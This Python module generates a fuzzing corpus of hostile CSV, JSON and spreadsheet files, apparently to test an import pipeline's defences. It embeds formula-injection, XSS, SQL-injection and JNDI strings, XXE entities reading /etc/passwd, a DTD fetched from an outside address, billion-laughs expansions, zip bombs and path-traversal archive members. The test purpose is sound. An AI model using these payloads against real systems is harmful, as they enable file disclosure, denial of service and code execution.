"""Files made to hurt, written by our own code: name, bytes, and what they try. Nobody's real file is among them."""



from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

import openpyxl

MB = 1 << 20
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = f'<?xml version="1.0"?><worksheet xmlns="{SPREADSHEET}"><sheetData>{{}}</sheetData></worksheet>'
TEXT_CELL = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
) + "]>"  # fmt: skip


class Hostile(NamedTuple):
    """One file: what it tries, the name it comes under, its bytes."""

    tries: str
    name: str
    content: bytes


def hostile_files() -> Iterator[Hostile]:
    """All of them, each made when it is asked for."""
    for family in FAMILIES:
        yield from family()


def workbook(**replaced: bytes | str) -> bytes:
    """A good small workbook with some parts replaced or added; names use `__` for `/` and `_x` for `.xml`."""
    plain, target = io.BytesIO(), io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["id", "text"])
    book.active.append(["1", "slow"])
    book.save(plain)
    parts = {part.replace("__", "/").replace("_x", ".xml"): body for part, body in replaced.items()}
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            if name not in parts:
                made.writestr(name, source.read(name))
        for name, body in parts.items():
            made.writestr(name, body)
    return target.getvalue()


def sheet(inside: str) -> bytes:
    return workbook(xl__worksheets__sheet1_x=SHEET.format(inside))


def encodings() -> Iterator[Hostile]:
    """Bytes that are no text in the encoding they seem to be in."""
    good = "text,who\nSo naïve – “really”,Ana\n日本語の意見,Bo\n" * 20
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "shift_jis", "gb18030", "euc-kr", "cp037", "utf-7"):
        yield Hostile(f"{name} without saying so", "a.csv", good.encode(name, "replace"))
    for mark, name in ((b"\xef\xbb\xbf", "utf-16"), (b"\xff\xfe", "utf-8"), (b"\x00\x00\xfe\xff", "utf-8"), (b"\xff\xfe", "utf-16-be")):
        yield Hostile(f"a mark {mark.hex()} over {name}", "a.csv", mark + good.encode(name))
    whole = good.encode("utf-16")
    yield Hostile("utf-16 cut in the middle of a character", "a.csv", whole[: len(whole) // 2 * 2 - 1])
    yield Hostile("utf-8 cut in the middle of a character", "a.csv", good.encode()[:-8] + b"\xe6\x97")
    yield Hostile("utf-8 that ends in latin-1 after 3 MB", "a.csv", b"text,n\n" + b"good,1\n" * 450_000 + b"na\xefve,2\n")
    yield Hostile("overlong utf-8", "a.csv", b"text,n\n\xc0\xaf\xe0\x80\xaf,1\n" * 5)
    yield Hostile("halves of surrogates in utf-8", "a.csv", b"text,n\n\xed\xa0\x80 half,1\n" * 5)
    yield Hostile("halves of surrogates in utf-16", "a.csv", b"\xff\xfe" + "text,n\n".encode("utf-16-le") + b"\x00\xd8,\x001\x00\n\x00" * 5)
    yield Hostile("right to left and back", "a.csv", "text,who\n\u202eelif on si siht\u202c,\u2066x\u2069\u200f\n".encode() * 9)
    yield Hostile("marks piled on one letter", "a.csv", ("text,n\nz" + "\u0301\u0489\u20dd" * 60_000 + ",1\n").encode())
    yield Hostile("joined faces", "a.csv", ("text,n\n" + "\U0001f468\u200d" * 50_000 + ",1\n").encode())
    yield Hostile("characters beyond the plane and tags", "a.csv", "text,n\n\U000e0041\U0010ffff\ufffe\uffff,1\n".encode() * 5)


def delimiters() -> Iterator[Hostile]:
    """Separators and quotes that do not mean what they seem to."""
    for mark in ("\x1f", "\x01", "¦", "::", "\u2028", "******", " ", "\x85", "^"):
        yield Hostile(f"separated by {mark!r}", "a.csv", (f"id{mark}text\n1{mark}slow\n" * 9).encode())
    for quote in ("'", "“", "`", "«"):
        yield Hostile(f"quoted with {quote}", "a.csv", (f"id,text\n1,{quote}slow, slow{quote}\n" * 9).encode())
    for size in (10, 1_000, 100_000):
        yield Hostile(f"{size} quotes in a row", "a.csv", b"a,b\n" + b'"' * size + b",1\n2,3\n")
        yield Hostile(f"an open quote on line {size}", "a.csv", b"a,b\n" + b"1,2\n" * size + b'3,"open\n' + b"4,5\n" * size)
    yield Hostile("only quotes", "a.csv", b"a,b\n" + b'"' * (4 * MB))
    yield Hostile("quotes and commas by turns", "a.csv", b"a,b\n" + b'",' * 500_000)
    yield Hostile("commas and quotes by turns", "a.csv", b"a,b\n" + b',"' * 500_000)
    yield Hostile("a broken quote on each line", "a.csv", b"a,b\n" + b'"x" y,"z"w"\n' * 50_000)
    yield Hostile("a quote opened on each line", "a.csv", b"a,b\n" + b'"x\n' * 300_000)
    yield Hostile("lone returns", "a.csv", b"a,b\r1,2\r" * 40_000)
    yield Hostile("line ends by turns", "a.csv", b"a,b\r\n1,2\n3,4\r5,6\n\r7,8\r\r\n" * 5_000)
    yield Hostile("separators that change half-way", "a.csv", b"a,b\n" + b"1,2\n" * 99 + b"1;2\n" * 99)
    yield Hostile("an escape before each quote", "a.csv", b'a,b\n"say \\"x\\"",1\n' * 20_000)
    yield Hostile("sep= that lies", "a.csv", b"sep=;\na,b\n1,2\n")
    yield Hostile("a separator and nothing else", "a.csv", b"," * 500_000)
    yield Hostile("nothing but line ends", "a.csv", b"\n" * (2 * MB))
    yield Hostile("nothing but spaces", "a.csv", b" " * (2 * MB))


def cells() -> Iterator[Hostile]:
    """Cells that are too large, that run, or that no database keeps."""
    for formula in ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "|calc", "%0A=1"):
        yield Hostile(f"a cell that runs: {formula[:12]!r}", "a.csv", f'text,n\n"{formula.replace(chr(34), chr(34) * 2)}",1\n'.encode())
    for text in ("<script>alert(1)</script>", "{{ 7*7 }}{% load x %}", "'; DROP TABLE evidence_note; --", "%s%n%x" * 99, "../../etc/passwd", "${jndi:ldap://x}"):
        yield Hostile(f"a cell that says {text[:20]!r}", "a.csv", f'text,{text.replace(",", "")}\n"{text}",1\n'.encode())
    yield Hostile("a NUL in each cell", "a.csv", b"text,n\n" + b"wo\x00rds,1\x00\n" * 9_999)
    yield Hostile("NULs alone", "a.csv", bytes(MB))
    yield Hostile("escapes of a terminal", "a.csv", b"text,n\n\x1b[31mred\x07\x0b\x0c\x1b]0;x\x07,1\n" * 99)
    yield Hostile("a cell of 3 MB", "a.csv", b"a,b\n1," + b"x" * (3 * MB) + b"\n3,4\n")
    yield Hostile("a quoted cell of 3 MB", "a.csv", b'a,b\n1,"' + b"some words\n" * (300 << 10) + b'"\n3,4\n')
    yield Hostile("a line of 30 MB", "a.csv", b"a,b\n1,2\n" + b"x" * (30 * MB) + b"\n3,4\n")
    yield Hostile("a header of 9 MB", "a.csv", b"a" * (9 * MB) + b",b\n1,2\n")
    yield Hostile("a million different words", "a.csv", b"text,n\n" + b" ".join(b"w%x" % n for n in range(150_000)) + b",1\n")
    for width in (1_999, 2_001, 10_000, 200_000):
        yield Hostile(f"{width} columns", "a.csv", b",".join(b"c%d" % n for n in range(width)) + b"\n1,2\n")
    yield Hostile("rows of 5,000 cells under two columns", "a.csv", b"a,b\n" + (b"1," * 5_000 + b"\n") * 200)
    yield Hostile("the same header 2,000 times", "a.csv", b",".join([b"text"] * 2_000) + b"\n" + b",".join([b"x"] * 2_000) + b"\n")
    yield Hostile("headers of control characters", "a.csv", b"\x01,\x02,\x03\n1,2,3\n" * 3)
    yield Hostile("dates of half a million digits", "a.csv", b"date,b\n" + b"1" * 500_000 + b",x\n" * 3)
    yield Hostile("dates that never were", "a.csv", b"text,date\nx,31/02/2024\ny,99999-99-99\nz,0000-00-00\nw,2024-13-45T99:99:99+99:99\n" * 9)
    yield Hostile("numbers beyond measure", "a.csv", b"name,arr\nA,1e309\nB,-1e999999\nC,NaN\nD,Infinity\nE," + b"9" * 5_000 + b"\n")
    yield Hostile("e-mail addresses that make patterns sweat", "a.csv", b"text,email\nx," + b"a@" * 20_000 + b"\ny,a@" + b"b." * 20_000 + b"\n")
    yield Hostile("links that make patterns sweat", "a.csv", b"text,url\nx,http://" + b"a/" * 50_000 + b"\ny," + b"http://" * 20_000 + b"\n")
    yield Hostile("tags by the hundred thousand", "a.csv", b"text,tags\nx,\"" + b"a," * 200_000 + b"\"\n")


def json_texts() -> Iterator[Hostile]:
    """JSON that is deep, long, repeated, or not JSON at all."""
    for depth in (60, 70, 5_000, 1_000_000):
        yield Hostile(f"lists {depth} deep", "a.json", b"[" * depth + b"]" * depth)
        yield Hostile(f"objects {depth} deep", "a.json", b'{"a":' * depth + b"1" + b"}" * depth)
    yield Hostile("a deep line of json lines", "a.jsonl", b'{"a":' * 100_000 + b"\n" + b'{"text":"x"}\n')
    yield Hostile("a string without end", "a.json", b'["' + b"a" * (20 * MB))
    yield Hostile("a number of a million digits", "a.json", b"[" + b"9" * MB + b"]")
    yield Hostile("an exponent without end", "a.json", b'[{"text":"x","n":1e' + b"9" * 100_000 + b"}]")
    yield Hostile("numbers that are none", "a.json", b'[{"n":NaN},{"n":-Infinity},{"n":1e999}]')
    yield Hostile("a comma too many", "a.json", b'[{"text":"x"},]')
    yield Hostile("single quotes", "a.json", b"[{'text':'x'}]")
    yield Hostile("comments", "a.json", b'/* x */[{"text":"x"}] // y')
    yield Hostile("halves of surrogates", "a.json", b'[{"text":"\\ud800 x","\\udfff":"y"}]')
    yield Hostile("an escaped NUL", "a.json", b'[{"text":"a\\u0000b","\\u0000":"c"}]')
    yield Hostile("a name that is repeated 10,000 times", "a.json", b"[{" + b",".join(b'"a":%d' % n for n in range(10_000)) + b"}]")
    yield Hostile("names that reach for the prototype", "a.json", b'[{"__proto__":{"x":1},"constructor":"y","text":"z","__class__":"w"}]')
    yield Hostile("a hundred thousand fields", "a.json", json.dumps([{f"k{n}": n for n in range(100_000)}]).encode())
    yield Hostile("other fields in each record", "a.json", json.dumps([{f"k{n}": n} for n in range(30_000)]).encode())
    yield Hostile("100,000 numbers and no record", "a.json", b"[" + b"1," * 100_000 + b"1]")
    yield Hostile("records of all kinds", "a.json", b'[1,null,"x",[],{},[[]],true,{"text":"y"},{"text":{"a":[1,{"b":2}]}}]')
    yield Hostile("8 MB of blanks", "a.json", b"[" + b" " * (8 * MB) + b"]")
    yield Hostile("two documents", "a.json", b'[{"text":"x"}][{"text":"y"}]')
    yield Hostile("cut off", "a.json", b'{"data":[{"text":"x"},{"text":"y')
    yield Hostile("a wrapper in a wrapper 50 times", "a.json", b'{"data":' * 50 + b'[{"text":"x"}]' + b"}" * 50)
    yield Hostile("json lines with a broken one between", "a.jsonl", b'{"text":"x"}\n{"text":\n{"text":"y"}\nnull\n[]\n')
    yield Hostile("json lines of 9 MB", "a.jsonl", b'{"text":"' + b"x" * (9 * MB) + b'"}\n{"text":"y"}\n')
    yield Hostile("a key of 2 MB", "a.json", b'[{"' + b"k" * (2 * MB) + b'":1}]')
    yield Hostile("utf-32", "a.json", '[{"text":"x"}]'.encode("utf-32"))
    yield Hostile("a hash flood of keys", "a.json", json.dumps([dict.fromkeys((str(n * (2**61 - 1)) for n in range(1_900)), 1)] * 20).encode())


def workbooks() -> Iterator[Hostile]:
    """Workbooks whose XML, dimensions or cells lie."""
    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    yield Hostile("laughs in the workbook", "a.xlsx", workbook(xl__workbook_x=f'<?xml version="1.0"?>{LAUGHS}<workbook>&j;</workbook>'))
    yield Hostile("laughs in the strings", "a.xlsx", workbook(xl__sharedStrings_x=f'<?xml version="1.0"?>{LAUGHS}<sst><si><t>&j;</t></si></sst>'))
    yield Hostile("laughs in utf-16", "a.xlsx", workbook(xl__styles_x=f'<?xml version="1.0" encoding="utf-16"?>{LAUGHS}<x/>'.encode("utf-16")))
    yield Hostile("a file asked for by a sheet", "a.xlsx", workbook(xl__worksheets__sheet1_x=xxe + '<worksheet><sheetData><row><c t="inlineStr"><is><t>&f;</t></is></c></row></sheetData></worksheet>'))
    yield Hostile("another machine asked for by a DTD", "a.xlsx", workbook(xl__styles_x='<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://198.51.100.1/x.dtd"><x/>'))
    yield Hostile("a link to another machine", "a.xlsx", workbook(**{"xl__worksheets___rels__sheet1.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x" Target="http://198.51.100.1/x" TargetMode="External"/></Relationships>'}))
    yield Hostile("macros", "a.xlsm", workbook(xl__vbaProject_bin=b"\xd0\xcf\x11\xe0" + random.Random(3).randbytes(9_000)))
    yield Hostile("dimensions that lie", "a.xlsx", workbook(xl__worksheets__sheet1_x=SHEET.format('<row r="1"><c r="A1"><v>1</v></c></row>').replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>', 1)))
    yield Hostile("a row numbered two billion", "a.xlsx", sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="2000000000"><c><v>1</v></c></row>'))
    yield Hostile("a row numbered below zero", "a.xlsx", sheet('<row r="-5"><c r="A-5"><v>1</v></c></row>'))
    yield Hostile("a cell in the last column", "a.xlsx", sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'))
    yield Hostile("a cell beyond the last column", "a.xlsx", sheet('<row r="1"><c r="ZZZZZZZZ9"><v>1</v></c></row>'))
    yield Hostile("a million cells in the last column", "a.xlsx", sheet("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 2_000))))
    yield Hostile("10,000 columns", "a.xlsx", sheet('<row r="1">' + "<c><v>1</v></c>" * 10_000 + "</row>"))
    yield Hostile("a string that is not there", "a.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>99</v></c></row>'))
    yield Hostile("a string below zero", "a.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'))
    yield Hostile("a date in the year a million", "a.xlsx", sheet('<row r="1"><c r="A1" s="1" t="d"><v>99999999999</v></c></row>'))
    yield Hostile("a cell of 20 MB", "a.xlsx", sheet(f'<row r="1">{TEXT_CELL.format("A1", "".join(map(str, range(3_000_000))))}</row>'))
    yield Hostile("elements 20,000 deep", "a.xlsx", sheet("<a>" * 20_000 + "</a>" * 20_000))
    yield Hostile("an attribute of 5 MB", "a.xlsx", sheet(f'<row r="1" x="{"y" * (5 * MB)}"><c r="A1"><v>1</v></c></row>'))
    yield Hostile("100,000 attributes", "a.xlsx", sheet("<row " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"))
    yield Hostile("formulas", "a.xlsx", sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://x")</f></c><c r="B1"><f>B1+1</f><v>2</v></c></row>' * 9))
    yield Hostile("controls in a cell", "a.xlsx", sheet(f'<row r="1">{TEXT_CELL.format("A1", "_x0000_ _x0007_ &#x202E;x")}</row>'))
    yield Hostile("300 sheets", "a.xlsx", _many_sheets(300))
    yield Hostile("a sheet that is its own parent", "a.xlsx", workbook(xl__workbook_x=f'<?xml version="1.0"?><workbook xmlns="{SPREADSHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId99"/></sheets></workbook>'))
    yield Hostile("merged cells over everything", "a.xlsx", workbook(xl__worksheets__sheet1_x=SHEET.format('<row r="1"><c r="A1"><v>1</v></c></row>').replace("</worksheet>", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>')))


def archives() -> Iterator[Hostile]:
    """Zips that unpack without end, lie about themselves, or are something else."""
    yield Hostile("a sheet of 300 MB of nothing", "a.xlsx", workbook(xl__worksheets__sheet1_x=bytes(300 * MB)))
    yield Hostile("ten thousand members", "a.xlsx", workbook(**{f"x{n}.txt": b"" for n in range(10_000)}))
    yield Hostile("a zip in a zip in a zip", "a.zip", _nested(6))
    yield Hostile("a size that lies", "a.xlsx", _lying_size())
    yield Hostile("a member twice", "a.xlsx", _twice())
    yield Hostile("members that climb out", "a.xlsx", workbook(**{"..__..__etc__passwd": b"x", "__tmp__x": b"y"}))
    yield Hostile("a zip of one CSV", "a.zip", _zip({"a.csv": b"text\nx\n"}))
    yield Hostile("an empty zip", "a.zip", _zip({}))
    yield Hostile("a member that is locked", "a.xlsx", _locked())
    yield Hostile("a binary workbook", "a.xlsb", workbook(xl__workbook_bin=b"x").replace(b"workbook_bin", b"workbook.bin"))
    yield Hostile("an open document", "a.ods", workbook(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"))
    yield Hostile("a letter", "a.docx", workbook(word__document_x=b"<x/>"))
    yield Hostile("a locked workbook", "a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"))
    for name, content in {
        "a.xls": b"\xef\xbb\xbf <html><table><tr><td>1</td></tr></table></html>", "b.xls": b"<?xml version='1.0'?><Workbook/>",
        "a.gz": b"\x1f\x8b\x08" + zlib.compress(bytes(MB)), "a.pdf": b"%PDF-1.7 ...", "a.png": b"\x89PNG\r\n\x1a\n", "a.csv": b"",
        "a.svg": b"<svg onload='alert(1)'/>", "a.exe": b"MZ\x90\x00", "a.rtf": b"{\\rtf1 x}", "a.sqlite": b"SQLite format 3\x00",
        "a.parquet": b"PAR1xxxx", "a.7z": b"7z\xbc\xaf\x27\x1c", "a.eml": b"From: a@b\n\nHello", "a.ics": b"BEGIN:VCALENDAR\n",
    }.items():  # fmt: skip
        yield Hostile(f"{name} under its own name", name, content)
        yield Hostile(f"{name} as a CSV", "c.csv", content)


def noise() -> Iterator[Hostile]:
    """Bytes without sense, and good files that were cut or flipped."""
    whole = workbook()
    for seed in range(6):
        chance = random.Random(seed)
        yield Hostile(f"noise {seed}", "a.csv", chance.randbytes(MB))
        yield Hostile(f"noise {seed} after the start of a zip", "a.xlsx", b"PK\x03\x04" + chance.randbytes(4_000))
        yield Hostile(f"noise {seed} after the start of an old workbook", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(4_000))
        yield Hostile(f"a workbook cut at {seed + 1} of 7", "a.xlsx", whole[: len(whole) * (seed + 1) // 7])
        yield Hostile(f"a workbook with flipped bytes {seed}", "a.xlsx", _flipped(whole, chance))
        yield Hostile(f"text with flipped bytes {seed}", "a.csv", _flipped(b"id,text,when\n1,slow,2024-01-01\n" * 200, chance))
        yield Hostile(f"json with flipped bytes {seed}", "a.json", _flipped(json.dumps([{"text": "slow", "n": 1}] * 99).encode(), chance))


def _flipped(whole: bytes, chance: random.Random) -> bytes:
    body = bytearray(whole)
    for _ in range(chance.randrange(1, 40)):
        body[chance.randrange(4, len(body))] = chance.randrange(256)
    return bytes(body)


def _zip(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return made.getvalue()


def _nested(times: int) -> bytes:
    inside = _zip({"a.csv": bytes(10 * MB)})
    for _ in range(times):
        inside = _zip({f"{n}.zip": inside for n in range(8)})
    return inside


def _lying_size() -> bytes:
    """The sheet's stated size, in both directories of the zip, is made a hundred bytes."""
    body = bytearray(workbook(xl__worksheets__sheet1_x=SHEET.format("<row><c><v>1</v></c></row>" * 200_000)))
    with zipfile.ZipFile(io.BytesIO(bytes(body))) as archive:
        size = struct.pack("<L", archive.getinfo("xl/worksheets/sheet1.xml").file_size)
    return bytes(body.replace(size, struct.pack("<L", 100)))


def _twice() -> bytes:
    made = io.BytesIO(workbook())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("xl/Workbook.xml", b"<x/>")
        archive.writestr("XL/workbook.xml", b"<y/>")
    return made.getvalue()


def _locked() -> bytes:
    body = bytearray(workbook())
    for start, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = body.find(start)
        body[at + offset] |= 1
    return bytes(body)


def _many_sheets(count: int) -> bytes:
    book, target = openpyxl.Workbook(), io.BytesIO()
    for number in range(count):
        book.create_sheet(f"s{number}").append(["id", "text"])
    book.save(target)
    return target.getvalue()


FAMILIES: tuple[Callable[[], Iterator[Hostile]], ...] = (
    encodings, delimiters, cells, json_texts, workbooks, archives, noise,
)  # fmt: skip
__all__ = ["FAMILIES", "Hostile", "hostile_files"]
